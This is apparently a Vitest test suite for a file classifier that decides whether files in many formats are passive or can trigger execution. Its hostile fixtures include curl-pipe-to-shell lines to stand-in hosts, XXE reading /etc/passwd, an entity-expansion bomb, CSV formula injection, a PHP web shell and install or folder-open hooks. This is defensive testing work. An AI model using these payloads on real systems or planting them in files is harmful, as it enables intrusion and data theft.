import { describe, expect, test } from 'vitest';
import { identify } from '../sandbox-runner/identify.ts';
import { isPassive } from '../sandbox-runner/passive.ts';
import { decoded } from '../sandbox-runner/static/decoded.ts';
import { parse } from '../sandbox-runner/static/parse.ts';
import { zip } from './samples/binaries.ts';

const passive = async (name: string, content: string | Buffer): Promise<boolean> => {
  const bytes = Buffer.from(content as string);
  const identity = await identify(bytes, name);
  return isPassive(identity, bytes, name, await parse(identity, decoded(identity, bytes), name).catch(() => ({})));
};

interface Pair {
  name: string;
  honest: string[];
  /** What uses the same place to have something started. */
  twins: string[];
}

const words = 'It does what a thing does, for everybody who has one at home.';
const cell = (source: string, outputs = '[]') =>
  `{"cells":[{"cell_type":"code","execution_count":1,"metadata":{},"source":[${JSON.stringify(source)}],"outputs":${outputs}}],"metadata":{},"nbformat":4,"nbformat_minor":5}`;
const drawing = (value: string) => `  0\nSECTION\n  2\nENTITIES\n  0\nTEXT\n  1\n${value}\n  0\nENDSEC\n  0\nEOF\n`;
const typed = (subset: string) => `<?xml version="1.0"?>\n<!DOCTYPE note [${subset}]>\n<note><to>Anna</to></note>\n`;

const pairs: Record<string, Pair> = {
  'messages of a program': {
    name: 'a.properties',
    honest: [
      "button.run=Run\nmenu.open = Open file...\nerror.load=The file {0} can't be loaded ({1})\nhelp.command=Type a command\n",
    ],
    twins: [
      'button.run=calc.exe\n',
      'button.run=/tmp/a\n',
      'button.run=npx evil\n',
      'menu.open = Calc\n',
      'help.command=id\n',
      'hook.script = ./a\n',
      'help.command=Cmd start\n',
      'button.run=Yarn dlx evil\n',
      'button.run=docker run é\n',
      'help.command=Git clone evil\n',
    ],
  },
  'settings with a switch': {
    name: 'a.ini',
    honest: ['[General]\nAutoStart=false\nplugins = 3\nstartup: yes\n'],
    twins: [
      '[General]\nAutoStart=a\n',
      '[General]\nAutoStart=./a\n',
      '[core]\nhooksPath = .hooks\n',
      '[core]\nfsmonitor = a\n',
      '[General]\nplugin = ./a\n',
      '[global]\nindex-url = https://192.0.2.1/\n',
      '[General]\ncommands =\n  id\n',
    ],
  },
  'a project in TOML': {
    name: 'pyproject.toml',
    honest: [
      '[project]\nname = "a"\ndescription = "A thing for people"\n\n[project.scripts]\na = "a.cli:main"\n\n[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
    ],
    twins: [
      '[project]\nname = "a"\n\n[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n',
      '[tool.pdm.scripts]\npost_install = "id"\n',
      '[tool.poe.tasks]\na = "id"\n',
      '[tool.hatch.build.hooks.custom]\nscript = "a"\n',
    ],
  },
  'messages in YAML': {
    name: 'en.yml',
    honest: ['en:\n  start: Start\n  run: Run now\n  commands:\n    help: Shows help\n'],
    twins: [
      'en:\n  run: id\n',
      'en:\n  commands:\n    help: id\n',
      'en:\n  script:\n    - make\n',
      'on: push\njobs:\n  a:\n    steps:\n      - run: Make all\n',
      'a: &x id\nrun: *x\n',
      'runcmd:\n  - [sh, a]\n',
      'a: !!python/object/new:os.system [id]\n',
    ],
  },
  'a description of an interface': {
    name: 'api.json',
    honest: ['{"openapi":"3.0.3","properties":{"command":{"type":"string","description":"what to do"}}}\n'],
    twins: [
      '{"command":"npx"}\n',
      '{"mcpServers":{"a":{"command":"npx","args":["evil"]}}}\n',
      '{"version":"2.0.0","tasks":[{"label":"a","command":{"value":"id","type":"x"}}]}\n',
      '{"postCreateCommand":["id"]}\n',
      '{"manifest_version":3}\n',
    ],
  },
  'messages in JSON': {
    name: 'de.json',
    honest: ['{"Commands:":"Befehle:","command":"Show all commands","cmd":"命令"}\n'],
    twins: [
      '{"command":"Calc"}\n',
      '{"command":"Cmd show"}\n',
      '{"command":"show all"}\n',
      '{"command":"C:\\\\a.exe"}\n',
    ],
  },
  'a map to the sources of a program': {
    name: 'a.js.map',
    honest: [
      '{"version":3,"file":"a.js","sources":["a.ts"],"sourcesContent":["import { exec } from \\"child_process\\"; exec(\\"ls\\");"],"names":[],"mappings":"AAAA;BACA"}\n',
    ],
    twins: [
      '{"version":3,"sources":["a.ts"],"sourcesContent":["exec(1)"],"names":[],"mappings":"AAAA","command":"id"}\n',
      '{"version":3,"sources":["a.ts"],"names":[],"mappings":"exec(1)"}\n',
      '{"version":3,"mappings":"AAAA","sources":[{"a":"eval(1)"}]}\n',
    ],
  },
  'a notebook': {
    name: 'a.ipynb',
    honest: [
      cell(
        'import pandas as pd\ndf = pd.read_csv("a.csv")\n',
        '[{"output_type":"stream","name":"stdout","text":["3\\n"]}]',
      ),
    ],
    twins: [
      cell('!id\n'),
      cell('%%bash\nid\n'),
      cell('%run a.py\n'),
      cell('get_ipython().x("id")\n'),
      cell('1', '[{"output_type":"display_data","data":{"text/html":["<script>alert(1)</script>"]}}]'),
      cell('1', '[{"output_type":"display_data","data":{"application/javascript":["alert(1)"]}}]'),
      cell('1', '[{"output_type":"display_data","data":{"text/html":["<img src=x onerror=\\"alert(1)\\">"]}}]'),
    ],
  },
  'a package of npm': {
    name: 'package.json',
    honest: [
      '{ "name": "a", "scripts": { "test": "vitest", "prepublishOnly": "npm run build", "postpublish": "git push" } }\n',
    ],
    twins: [
      'preinstall',
      'install',
      'postinstall',
      'prepare',
      'prepublish',
      'prepack',
      'preprepare',
      'dependencies',
    ].map((name) => `{ "name": "a", "scripts": { "${name}": "node go" } }\n`),
  },
  'a change log': {
    name: 'changelog',
    honest: [
      `Thing 2.0\n\n  * Fix a deadlock in system() when called twice, and see execve(2).\n  * Better parser execute (Fedor Indutny), and less noise while $(srcdir) is read.\n\n${words}\n`,
    ],
    twins: [
      `${words}\n\nimport os\nos.system("id")\n`,
      `${words}\n\n$(wget http://192.0.2.1/a -O b)\n`,
      `${words}\n\n/* ${words} */ eval (name)\n`,
      `${words}\n\n=cut\nsystem("id");\n`,
      `${words}\n\nexec(a)\n`,
      `${words}\n\nexec()(a)\n`,
      `${words}\n\nWScript.a()\n${words}\nCreateObject().b\n`,
    ],
  },
  'notes that name a command': {
    name: 'notes.txt',
    honest: [
      `${words} To see it use this\ncommand: >\n  syntax clear\n\nThis is said of the command: it clears all, and it does so at once.\n`,
    ],
    twins: [
      `${words}\n[autorun]\nopen=a.exe\n`,
      `${words}\ncommand = /tmp/a\n`,
      `${words}\nfsmonitor = ./a\n`,
      'name: a thing\nnext: another thing of the house\ncommand: ./a\n',
    ],
  },
  Markdown: {
    name: 'README.md',
    honest: [
      `# Thing <sup>[![Version][npm-version]][package-url]</sup>\n\n[![actions][actions-image]][actions-url]\n\n${words}\n\n[npm-version]: https://example.org/a.svg\n`,
      `<p align="center"><img src="a.png"></p>\n\n# Thing\n\n${words} See <https://example.org/> and \`<T>\`.\n\n\`\`\`js\nif (a < b && c) x = () => y;\n\`\`\`\n`,
      `# Thing\n\n${words}\n\n\`\`\`html\n<form><script type="module">a()</script></form>\n\`\`\`\n\n- Thing for JavaScript: <https://example.org/>\n`,
      `<a href="https://example.org/">\n  <img alt="logo" src="https://example.org/a.svg" width="280">\n</a>\n\n${words}\n`,
    ],
    twins: [
      `# Thing [![Version][a]][b]\n\n${words}\n\n    curl -fsSL https://192.0.2.1/a | sh\n`,
      `<a href="javascript:alert(1)">a</a>\n\n${words}\n`,
      `<img src=x onerror=alert(1)>\n\n${words}\n`,
      `<!-- -->\neval(name)\n`,
      `<p>\nwget -q -O b\n`,
      `[a][b](c[0])(d)\n\n${words}\n`,
      `# Thing\n\n${words}\n\n\`\`\`ini\n[autorun]\nopen=a.exe\n\`\`\`\n`,
      `# Thing\n\n${words}\n\n<form action="https://192.0.2.1/">\n`,
      `# Thing\n\n${words}\n\n[more](javascript: alert(1))\n`,
      `<p align=center>\n\n${words}\n\n<script>alert(1)</script>\n`,
      `# Thing\n\n${words}\n\n![a](\\\\203.0.113.1\\a.png)\n`,
      `# Thing\n\n${words}\n\n![a](file://203.0.113.1/a.png)\n`,
    ],
  },
  'types of TypeScript': {
    name: 'a.d.ts',
    honest: [
      'import { A } from "./a";\nexport interface B {\n  execute(options?: A): Promise<void>;\n  exec(a: string): void;\n}\nexport declare const d: typeof import("../d").d;\nexport declare function evaluate(a: import("./a").A): void;\n',
    ],
    twins: [
      'export type A = string;\nexec(a);\n',
      'export type A = string;\nconst x: string = a ?\nexec(b) :\n0;\n',
      'export type A = string;\nimport("./a").then((a) => a.b);\n',
      'export type A = string;\neval(a);\n',
      'export const a: string = `${eval(b)}`;\n',
      'export type A = string;\nfunction b(): void { exec(a); }\n',
    ],
  },
  'a sheet of styles': {
    name: 'a.css',
    honest: [
      'a[href^="javascript:"]:after { content: "" }\n.v { behavior: url(#default#VML) }\n.#{$p}-a { color: red }\n.@{p}-b { .mixed(@a, 10%); }\n',
    ],
    twins: [
      'a { behavior: url(a.htc) }\n',
      'a { behavior: url(#default#a) url(a.htc) }\n',
      'a { background: url(javascript:alert(1)) }\n',
      'a[href="javascript:alert(1)"] { color: expression(alert(1)) }\n',
      'a { color: red }\nb.c();\n',
      'a { color: red }\n.b(function() { c() });\n',
    ],
  },
  'a query': {
    name: 'a.graphql',
    honest: ['query Pets($n: Int = 3) {\n  pets(first: $n) { ...F }\n}\n\nfragment F on Pet { id name }\n'],
    twins: [
      'query () {\n  a=1; id\n}\n',
      'query (a) {\n  wget -O b http://192.0.2.1/ | sh\n}\n',
      '{ (a) (b) }\n',
      'query { a.b }\n',
    ],
  },
  'a drawing': {
    name: 'a.dxf',
    honest: [drawing('The house by the river')],
    twins: [
      drawing('\\\\203.0.113.1\\a.dwg'),
      drawing('https://192.0.2.1/a.dwg'),
      drawing('OLE2FRAME'),
      drawing('VBA_PROJECT'),
      drawing('a').slice(0, -8),
      `${drawing('a')}curl http://192.0.2.1/a | sh\n`,
      drawing('a').replace('  1\na', 'id\na'),
    ],
  },
  'a document type': {
    name: 'a.dtd',
    honest: [
      '<!-- a -->\n<!ENTITY % names "CDATA">\n<!ELEMENT note (to,from)>\n<!ATTLIST note id %names; #REQUIRED>\n<!ENTITY auml "&#228;">\n',
    ],
    twins: [
      '<!ENTITY % a SYSTEM "file:///etc/passwd">\n<!ELEMENT b ANY>\n',
      '<!ENTITY % a SYSTEM "http://192.0.2.1/a">\n%a;\n',
      '<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'http://192.0.2.1/\'>">\n%a;\n',
      '<!ELEMENT a ANY>\n<script>alert(1)</script>\n',
      '<!ELEMENT a ANY>\nid\n',
      `<!ENTITY a "${'x'.repeat(1_000)}">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}`,
    ],
  },
  'XML with its type in it': {
    name: 'a.xml',
    honest: [typed('\n<!ELEMENT note (to)>\n<!ELEMENT to (#PCDATA)>\n<!ATTLIST note id CDATA #REQUIRED>\n')],
    twins: [
      typed('<!ENTITY a SYSTEM "file:///etc/passwd">'),
      typed('<!ENTITY a "b">'),
      typed('<!ENTITY % a SYSTEM "a.dtd"> %a;'),
      typed('<!ATTLIST note xmlns CDATA #FIXED "http://www.w3.org/1999/xhtml">'),
      typed('<!ATTLIST note onload CDATA "alert(1)">'),
      typed('<!ELEMENT note (to)>').replace(']>', ''),
    ],
  },
  'a page of the manual by Perl': {
    name: 'a.1',
    honest: [
      '.\\" give an unbreakable dash, \\*(PI will give pi,\n.de Sp\n.sp\n..\n.    ds PI pi\n.TH A 1\n.SH NAME\nexecve (2) \\- see system()\n',
    ],
    twins: ['.\\" a\n.TH A 1\n.if n .pi sh\n', '.TH A 1\n.ds PI pi\n.pi sh\n', '.TH A 1\n.als x sy\n.x id\n'],
  },
  'a dump with bytes in it': {
    name: 'a.sql',
    honest: [`CREATE TABLE a (b blob);\nINSERT INTO a VALUES (X'${'89'.repeat(300)}');\n`],
    twins: [
      `CREATE TABLE a (b blob);\nINSERT INTO a VALUES (X'4d5a${'00'.repeat(300)}');\n`,
      `CREATE TABLE a (b text);\nINSERT INTO a VALUES ('${'QUJD'.repeat(300)}');\n`,
    ],
  },
  'a page with a film': {
    name: 'a.html',
    honest: [
      '<!DOCTYPE html>\n<html xmlns:epub="http://www.idpf.org/2007/ops"><body><video controls src="a.mp4" poster="a.jpg"></video></body></html>\n',
    ],
    twins: [
      '<!DOCTYPE html>\n<html><body><video poster="//203.0.113.1/a.jpg"></video></body></html>\n',
      '<!DOCTYPE html>\n<html><body><video src=x onerror=alert(1)></video></body></html>\n',
      '<!DOCTYPE html>\n<html xmlns:epub="http://www.w3.org/1999/xhtml"><body><epub:script>alert(1)</epub:script></body></html>\n',
    ],
  },
  'a list with nothing in a cell': {
    name: 'a.csv',
    honest: ['1;-;Alimony\n2;-;Car\n'],
    twins: ['1;-cmd|a;Alimony\n2;-;Car\n', '1;=HYPERLINK("http://192.0.2.1");A\n2;-;Car\n'],
  },
  'a list with formulas that calculate': {
    name: 'a.csv',
    honest: ['a;b\n1;=SUM(A1:A2)\n2;=Total\n', 'a,b\n1,"=IF(A1>2,1,0)"\n2,"=1+1"\n'],
    twins: [
      'a,b\n1,=SUM(A1,WEBSERVICE(A2))\n',
      'a,b\n1,"=SUM(1)+cmd|\' /C calc\'!A0"\n',
      'a;b\n1;=SUM(A1)\n2;=RTD(A1;A2)\n',
      'a;b\n1;=A1&[http://192.0.2.1/a.xls]\n',
      'a,b\n1,=IF(A1,\n2,CALL(A1))\n',
      'a|b\n=1+cmd |\'/C calc\'!A0\n',
      `a|b\n=A1+${'0+'.repeat(300)}cmd|'/C calc'!A0\n`,
      'a,b\n1,"=WEBSERVICE          (""http://192.0.2.1/?q=""&A1)"\n',
      'a,b\n1,"=WEBSERVICE\u00a0(A1)"\n',
      'a;b;c\n1;=0+IF(1;WEBSERVICE(A1))\n',
      'a,b,c\n1,=0+IF(A1,WEBSERVICE(A1))\n',
    ],
  },
  'a contents list of a book that names a shell': {
    name: 'toc.ncx',
    honest: [
      '<?xml version="1.0"?>\n<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><content src="a.xhtml#powershell" /></ncx>\n',
    ],
    twins: [
      '<?xml version="1.0"?>\n<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><text>powershell -e AAAA</text></ncx>\n',
      '<?xml version="1.0"?>\n<a><text>powershell /c AAAA</text></a>\n',
    ],
  },
  'a page of XHTML with its declaration': {
    name: 'nav.xhtml',
    honest: [
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hello there.</p></body></html>\n',
    ],
    twins: [
      '<?xml version="1.0"?>\n<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>\n',
    ],
  },
};

describe('a rule that lets an honest file pass', () => {
  test.each(Object.entries(pairs))(
    '%s: what uses the same place to start something is not passive',
    async (_kind, { name, honest, twins }) => {
      for (const text of honest) expect({ text, passive: await passive(name, text) }).toEqual({ text, passive: true });
      for (const text of twins) expect({ text, passive: await passive(name, text) }).toEqual({ text, passive: false });
    },
  );
  test.each([
    [
      '.vscode/tasks.json',
      '{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"id","runOptions":{"runOn":"folderOpen"}}]}\n',
    ],
    ['tasks.txt', '{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"id"}]}\n'],
    ['.gitconfig', '[core]\nhooksPath = .hooks\n'],
    ['config.txt', '[core]\n\thooksPath = .hooks\n'],
    ['config.txt', '[alias]\n\tst = !id\n'],
    ['Makefile', 'all:\n\tid\n'],
    ['Dockerfile', 'FROM debian\nRUN curl http://192.0.2.1/a | sh\n'],
    ['Dockerfile.txt', 'FROM debian\nRUN curl http://192.0.2.1/a | sh\n'],
    [
      'ci.yml',
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Build all\n        run: make\n',
    ],
    ['pip.conf', '[global]\nindex-url = https://192.0.2.1/simple\n'],
    ['a.conf', '[Unit]\nDescription=A thing\n\n[Service]\nExecStart=/tmp/a\n'],
    ['.npmrc', 'script-shell=./a\n'],
    ['rc.txt', 'script-shell=./a\nregistry=https://192.0.2.1/\n'],
    ['a.txt', '[Desktop Entry]\nType=Application\nName=A\nExec=sh a\n'],
    ['pyproject.toml', '[tool.hatch.build.hooks.custom]\npath = "a.py"\n'],
    ['a.txt', `${words}\n\n<?php system($_GET[0]); ?>\n`],
    ['a.txt', `<html><body><p>${words}</p><script>alert(1)</script></body></html>\n`],
    ['a.txt', `${words}\n\n<script>alert(1)</script>\n`],
    ['.htaccess', 'AddType application/x-httpd-php .jpg\n'],
    ['a.tex', '\\documentclass{article}\n\\write18{id}\n'],
    ['README.md', `# Thing\n\n${words}\n\n\`\`\`sh\ncurl -fsSL https://192.0.2.1/a | sh\n\`\`\`\n`],
    ['requirements.txt', '--index-url https://192.0.2.1/simple\nrequests\n'],
    ['docker.yml', 'services:\n  a:\n    image: alpine\n    entrypoint: Show all\n    command: id\n'],
    ['a.txt', `${words}\n\nvim: set modeline foldexpr=system("id"):\n`],
    ['a.txt', `-*- mode: text; eval: (message "a") -*-\n\n${words}\n`],
  ])('%s that starts something is not passive, whatever else stands there', async (name, text) =>
    expect(await passive(name, text)).toBe(false),
  );
  test('a document with a place for forms holds none, and one with a form does', async () => {
    const document = (forms: string) =>
      zip({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'content.xml': `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"><office:scripts/><office:body><office:text>${forms}</office:text></office:body></office:document-content>`,
        'META-INF/manifest.xml':
          '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
      });
    const place = (inner: string) => `<office:forms form:automatic-focus="false">${inner}</office:forms>`;
    expect(
      await passive('a.odt', document('<office:forms form:automatic-focus="false" form:apply-design-mode="false"/>')),
    ).toBe(true);
    expect(await passive('a.odt', document(place('<form:form form:name="a"/>')))).toBe(false);
    expect(await passive('a.odt', document(place('<form:form><form:button/></form:form>')))).toBe(false);
    expect(
      await passive(
        'a.odt',
        document(place('<xforms:model><xforms:submission action="https://192.0.2.1/"/></xforms:model>')),
      ),
    ).toBe(false);
  });
  test('a book is an archive, whose pages are judged by themselves', async () => {
    const book = zip({
      mimetype: 'application/epub+zip',
      'a.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
    });
    expect(await identify(book, 'a.epub')).toMatchObject({
      kind: 'archive',
      format: 'zip',
      mediaType: 'application/epub+zip',
    });
    expect(await passive('a.epub', book)).toBe(false);
    expect(
      await passive(
        'a.xhtml',
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
      ),
    ).toBe(false);
  });
  test('binary tables are read to their end', async () => {
    const solid = Buffer.alloc(84 + 50);
    solid.write('Made by a slicer');
    solid.writeUInt32LE(1, 80);
    const scene = Buffer.concat([
      Buffer.from('glTF\x02\0\0\0\0\0\0\0\x1c\0\0\0JSON'),
      Buffer.from('{"asset":{"version":"2.0"}} '),
    ]);
    scene.writeUInt32LE(scene.length, 8);
    const zone = Buffer.concat([
      Buffer.from('TZif'),
      Buffer.alloc(40),
      Buffer.from('TZif2'),
      Buffer.alloc(39),
      Buffer.from('\nUTC0\n'),
    ]);
    zone[4] = 0x32;
    const metrics = Buffer.alloc(4 * (6 + 2 + 1 + 4));
    [13, 2, 0, 0, 1, 1, 1, 1, 0, 0, 0, 0].forEach((value, n) => metrics.writeUInt16BE(value, 2 * n));
    for (const [name, bytes] of [
      ['a.stl', solid],
      ['a.glb', scene],
      ['Berlin', zone],
      ['a.tfm', metrics],
    ] as const) {
      expect({ name, passive: await passive(name, bytes) }).toEqual({ name, passive: true });
      expect({ name, passive: await passive(name, Buffer.concat([bytes, Buffer.from('#!/bin/sh\nid\n')])) }).toEqual({
        name,
        passive: false,
      });
      expect({ name, passive: await passive(name, bytes.subarray(0, -1)) }).toEqual({ name, passive: false });
    }
    const command = Buffer.from(solid);
    command.write('id; wget a|sh #');
    expect(await passive('a.stl', command)).toBe(false);
  });
});
